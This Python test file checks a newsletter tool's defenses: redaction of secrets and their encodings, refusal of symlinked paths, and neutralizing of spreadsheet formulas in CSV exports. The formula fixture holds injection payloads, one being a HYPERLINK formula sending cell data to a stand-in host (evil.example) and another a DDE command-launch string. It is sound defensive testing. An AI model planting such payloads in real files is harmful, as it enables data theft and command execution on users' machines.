"""Secrets never reach the screen, the log or the database: an echoing server's error body is
redacted of every configured secret (newsletter/secrets.py, providers/base.RedactedProvider)."""

from __future__ import annotations

import base64
import logging
import sqlite3
from pathlib import Path

import pytest
from typer.testing import CliRunner

from conftest import add_readers
from fakes.postmark import FakePostmark
from fakes.server import Fault
from newsletter.cli import app
from newsletter.secrets import MASK, Redactor
from newsletter.store import subscribers
from newsletter.store.db import open_db, open_store

ISSUE = "issues/2026-11-mdma-assisted-therapy.md"
TOKEN = "pm-token-3f9c2a7e-echoed-by-the-proxy"
ENV = {
    "POSTMARK_SERVER_TOKEN": TOKEN,
    "NEWSLETTER_SECRET": "signing-secret-of-this-clinic",
    "SMTP_USERNAME": "clinic",
    "SMTP_PASSWORD": "relay-pass-77",
    "POSTMARK_WEBHOOK_USERNAME": "hook",
    "POSTMARK_WEBHOOK_PASSWORD": "hook-pass-99",
}


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    "echoed",
    [
        TOKEN,
        "signing-secret-of-this-clinic",
        "relay-pass-77",
        b64(TOKEN),
        b64(TOKEN).rstrip("="),
        "pm-token-3f9c2a7e-echoed-by-the-proxy".replace("-", "%2D"),  # not an encoding we make...
        b64("clinic:relay-pass-77"),  # HTTP Basic
        b64("\0clinic\0relay-pass-77"),  # SMTP AUTH PLAIN
        b64("hook:hook-pass-99"),
    ],
)
def test_every_secret_and_its_encodings_are_redacted(echoed: str) -> None:
    redact = Redactor.from_env(ENV)
    text = redact(f"proxy error; you sent Authorization: Basic {echoed} and more")
    if "%2D" in echoed:  # ...percent-encoding leaves '-' alone, so this is not a form to find
        assert text.endswith("and more")
        return
    assert echoed not in text and MASK in text and text.endswith("and more")


def test_a_text_cut_short_in_the_middle_of_a_secret_loses_that_part() -> None:
    redact = Redactor.from_env(ENV)
    assert redact(f"HTTP 500: X-Postmark-Server-Token: {TOKEN[:12]}") == f"HTTP 500: X-Postmark-Server-Token: {MASK}"
    assert redact("HTTP 500: nothing secret here") == "HTTP 500: nothing secret here"


def test_short_values_and_an_empty_environment_redact_nothing() -> None:
    assert not Redactor.from_env({})
    assert Redactor.from_env({"SMTP_PASSWORD": "ab"})("ab cab") == "ab cab"


def test_the_percent_encoded_form_is_redacted() -> None:
    redact = Redactor.from_env({"SMTP_PASSWORD": "p@ss word/1"})
    assert redact("user=x&pass=p%40ss%20word%2F1") == f"user=x&pass={MASK}"
    assert redact("pass=p%40ss+word%2F1") == f"pass={MASK}"


# -- end to end: the CLI against a Postmark whose errors echo the request's headers ------------


@pytest.fixture
def people(settings):
    add_readers(settings, 29)


def use_postmark(project: Path, fake: FakePostmark) -> None:
    config = project / "newsletter.toml"
    text = config.read_text().replace(
        'base_url = "https://api.postmarkapp.com"',
        f'base_url = "{fake.url}"\nreconcile_grace_seconds = 0\ntimeout = [1, 1]\nmax_attempts = 2\nbackoff_base = 0.01\nworkers = 1',
    )
    config.write_text(text.replace('name = "outbox"', 'name = "postmark"'))


def everything_stored(database: Path) -> str:
    with sqlite3.connect(database) as conn:
        return "\n".join(conn.iterdump())


def send(monkeypatch, *args: str):
    for name, value in ENV.items():
        monkeypatch.setenv(name, value)
    return CliRunner().invoke(app, ["send", ISSUE, "--yes", "--skip-sync", *args])


def test_an_echoed_token_is_in_neither_the_error_line_nor_the_ledger(project, settings, people, approved_sample, monkeypatch, caplog):
    caplog.set_level(logging.DEBUG)
    with FakePostmark(token=TOKEN) as fake:
        use_postmark(project, fake)
        fake.script(Fault.status(422, {"ErrorCode": 300, "Message": "Invalid request"}, echo_headers=True, path="/email/batch"))
        result = send(monkeypatch)
        assert any(TOKEN in (r.headers.get("x-postmark-server-token") or "") for r in fake.requests)  # it did cross the wire
    assert result.exit_code == 1
    assert "Error: postmark: HTTP 422 (code 300): Invalid request (request headers:" in result.output
    assert MASK in result.output
    assert TOKEN not in result.output and TOKEN[:12] not in result.output
    assert TOKEN not in caplog.text
    stored = everything_stored(settings.database)
    assert "Invalid request" in stored and MASK in stored  # the rows keep why, without the token
    assert TOKEN not in stored and TOKEN[:12] not in stored


def test_an_echoing_html_error_page_cut_short_leaves_no_part_of_the_token(project, settings, people, approved_sample, monkeypatch):
    # The adapter keeps an error page's first 200 characters: a long token is cut in its middle.
    long_token = "pm-" + "7d3e" * 60
    monkeypatch.setitem(ENV, "POSTMARK_SERVER_TOKEN", long_token)
    with FakePostmark(token=long_token) as fake:
        use_postmark(project, fake)
        fake.script(Fault.status(500, b"", echo_headers=True, path="/email/batch"), times=2)  # both tries
        result = send(monkeypatch)
    assert result.exit_code == 1 and "went back to pending" in result.output
    assert long_token[:8] not in result.output
    stored = everything_stored(settings.database)
    # The pending rows say why they went back, without the part of the token the cut kept.
    assert f"postmark: HTTP 500: <html>Bad gateway. Your request: x-postmark-server-token: {MASK}'" in stored
    assert long_token[:8] not in stored


def test_the_sites_log_is_redacted(settings, caplog) -> None:
    from newsletter.web.app import create_app

    create_app(settings, ENV)
    with caplog.at_level(logging.WARNING, logger="newsletter.web"):
        logging.getLogger("newsletter.web").warning("sign-up: postmark: HTTP 500: %s", f"token {TOKEN}")
    assert "sign-up: postmark: HTTP 500: token [redacted]" in caplog.text
    assert TOKEN not in caplog.text


# -- files are never written through a symbolic link -------------------------------------------

SLUG = "2026-11-mdma-assisted-therapy"


def test_a_link_planted_under_the_temporary_name_is_never_opened(tmp_path: Path, monkeypatch) -> None:
    from newsletter import files

    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    folder = tmp_path / "build"
    folder.mkdir()
    # The attacker guessed the first random name: a link waits there.
    (folder / ".email.html.aaaa.tmp").symlink_to(victim)
    names = iter(["aaaa", "bbbb"])
    monkeypatch.setattr(files.secrets, "token_hex", lambda n: next(names))
    with files.atomic_write(folder / "email.html") as out:
        out.write(b"<html>")
    assert victim.read_text() == "precious"
    assert (folder / "email.html").read_bytes() == b"<html>"
    assert (folder / ".email.html.aaaa.tmp").is_symlink()  # left alone, not followed


def test_a_link_at_the_target_is_replaced_not_followed(tmp_path: Path) -> None:
    from newsletter.files import atomic_write

    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (tmp_path / "email.html").symlink_to(victim)
    with atomic_write(tmp_path / "email.html") as out:
        out.write(b"new")
    assert victim.read_text() == "precious" and not (tmp_path / "email.html").is_symlink()


def error_line(result) -> str:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    return next(line for line in result.output.splitlines() if line.startswith("Error: "))


@pytest.mark.parametrize("linked", ["build", f"build/{SLUG}"])
def test_build_refuses_a_symlinked_build_folder(project: Path, tmp_path_factory, linked: str) -> None:
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    (project / linked).parent.mkdir(parents=True, exist_ok=True)
    (project / linked).symlink_to(elsewhere, target_is_directory=True)
    line = error_line(CliRunner().invoke(app, ["build", ISSUE]))
    assert f"{project / linked}: " in line and "is a symbolic link" in line
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("linked", ["outbox", f"outbox/{SLUG}"])
def test_the_outbox_refuses_a_symlinked_folder_and_sends_nothing(project: Path, settings, people, tmp_path_factory, linked: str) -> None:
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    (project / linked).parent.mkdir(parents=True, exist_ok=True)
    (project / linked).symlink_to(elsewhere, target_is_directory=True)
    result = CliRunner().invoke(app, ["send", ISSUE])
    line = error_line(result)
    assert f"Error: outbox: {project / linked}: " in line and "is a symbolic link" in line
    assert list(elsewhere.rglob("*")) == []
    with sqlite3.connect(settings.database) as conn:
        states = dict(conn.execute("SELECT state, COUNT(*) FROM deliveries GROUP BY state").fetchall())
    assert states == {"pending": 29}  # nothing in doubt: the next run, without the link, sends them


# -- exports never hold live spreadsheet formulas ----------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "'quoted already"]


def test_an_export_neutralizes_formulas_and_imports_back_as_it_was(project: Path, settings) -> None:
    conn = open_store(settings)
    for i, name in enumerate(FORMULAS):
        subscribers.add(conn, f"f{i}@example.com", source="test", first_name=name, last_name=name)
    conn.close()
    assert CliRunner().invoke(app, ["subscribers", "export", "out.csv"]).exit_code == 0
    import csv

    rows = list(csv.DictReader((project / "out.csv").open(encoding="utf-8", newline="")))
    last_names = [r["last_name"] for r in rows]
    assert last_names == ["'" + FORMULAS[0], "'" + FORMULAS[1], "'" + FORMULAS[2], "'" + FORMULAS[3], "'quoted already"]
    assert all(not r["first_name"].startswith(("=", "+", "-", "@")) for r in rows)
    # Into an empty list: the names come back exactly as they were.
    fresh = project / "fresh.db"
    from newsletter.lists.importer import import_file

    conn = open_db(fresh)
    import_file(conn, project / "out.csv")
    got = dict(conn.execute("SELECT email, last_name FROM subscribers").fetchall())
    conn.close()
    assert [got[f"f{i}@example.com"] for i in range(len(FORMULAS))] == FORMULAS


def test_the_rejected_rows_file_neutralizes_formulas(project: Path, settings) -> None:
    (project / "in.csv").write_text('email,first_name\nnot-an-address,"=1+2"\n=cmd,x\n', encoding="utf-8")
    CliRunner().invoke(app, ["subscribers", "import", "in.csv"])
    text = (project / "in.rejected.csv").read_text(encoding="utf-8")
    assert "'=1+2" in text and "'=cmd" in text
    assert not any(cell.startswith("=") for line in text.splitlines() for cell in line.split(","))


def test_tab_and_carriage_return_starts_are_neutralized_too() -> None:
    from newsletter.lists.writer import neutralized, unneutralized

    for cell in ("\t=1", "\r=1", "=1", "+1", "-1", "@1"):
        assert neutralized(cell) == "'" + cell and unneutralized("'" + cell) == cell
    assert neutralized("Ann") == "Ann" and neutralized(7) == 7 and unneutralized("'Ann") == "'Ann"


# -- erasure survives a change of NEWSLETTER_SECRET ---------------------------------------------

ZOE = "zoe@example.org"


def write_list(path: Path) -> Path:
    path.write_text(f"email,first_name\n{ZOE},Zoe\nann@example.org,Ann\n", encoding="utf-8")
    return path


def test_a_forgotten_address_stays_out_under_another_secret(tmp_path: Path, monkeypatch) -> None:
    from newsletter.lists.importer import import_file
    from newsletter.store import subscriber_admin

    people = write_list(tmp_path / "list.csv")
    database = tmp_path / "list.db"
    monkeypatch.setenv("NEWSLETTER_SECRET", "the-first-secret")
    conn = open_db(database)
    import_file(conn, people)
    subscriber_admin.forget(conn, ZOE)
    conn.close()
    for later in ("a-rotated-secret", None):  # rotated, then unset
        if later:
            monkeypatch.setenv("NEWSLETTER_SECRET", later)
        else:
            monkeypatch.delenv("NEWSLETTER_SECRET")
        conn = open_db(database)
        report = import_file(conn, people)
        assert (report.counts.kept_suppressed, report.counts.added) == (1, 0)
        assert subscribers.find(conn, ZOE) is None
        conn.close()
    stored = everything_stored(database)
    assert ZOE not in stored and "the-first-secret" not in stored
    with sqlite3.connect(database) as raw:
        assert raw.execute("SELECT keyed_by FROM forgotten").fetchall() == [("database",)]


def version_4_database(path: Path, legacy_digests: list[str]) -> None:
    """A database as the code before migration 5 left it, with erasure hashes in it, upgraded
    by `newsletter db upgrade` (store/migrate.py)."""
    from legacy_schema import legacy_database

    from newsletter.store.migrate import upgrade_sqlite

    raw = legacy_database(path, versions=range(1, 5))
    raw.executemany("INSERT INTO forgotten (email_hash, forgotten_at) VALUES (?, 'then')", [(d,) for d in legacy_digests])
    raw.close()
    upgrade_sqlite(path, busy_timeout=5)


def hmac_hex(key: bytes, text: str) -> str:
    import hashlib
    import hmac

    return hmac.new(key, text.encode(), hashlib.sha256).hexdigest()


def test_hashes_made_with_the_secret_before_migration_5_are_still_honoured(tmp_path: Path, monkeypatch) -> None:
    from newsletter.lists.importer import import_file

    database = tmp_path / "old.db"
    version_4_database(database, [hmac_hex(b"the-old-secret", ZOE)])
    monkeypatch.setenv("NEWSLETTER_SECRET", "the-old-secret")
    conn = open_db(database)
    assert conn.execute("SELECT version_num FROM alembic_version").fetchone()[0] >= "0005"
    assert [tuple(r) for r in conn.execute("SELECT keyed_by FROM forgotten")] == [("legacy",)]
    report = import_file(conn, write_list(tmp_path / "list.csv"), dry_run=True)
    assert (report.counts.kept_suppressed, report.counts.added) == (1, 1)
    conn.close()
    # The limit of a hash that cannot be re-keyed (README, Erasure): under another secret the
    # old row no longer matches. Only the rows made before migration 5 depend on the secret.
    monkeypatch.setenv("NEWSLETTER_SECRET", "another-secret")
    conn = open_db(database)
    assert import_file(conn, tmp_path / "list.csv", dry_run=True).counts.kept_suppressed == 0
    conn.close()
